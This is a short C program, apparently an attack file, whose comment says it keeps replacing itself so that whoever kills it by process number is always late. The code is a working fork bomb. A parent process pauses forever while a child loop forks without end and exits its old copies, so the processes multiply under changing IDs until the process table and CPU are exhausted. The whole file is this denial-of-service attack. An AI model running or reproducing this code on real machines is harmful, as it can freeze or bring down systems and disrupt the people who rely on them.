// Keeps replacing itself, so that whoever kills by number is always late.
#include "attack.h"
int main(void) {
  if (fork() > 0) {
    for (;;) pause();
  }
  for (;;) {
    if (fork() > 0) _exit(0);
    fork();
  }
}
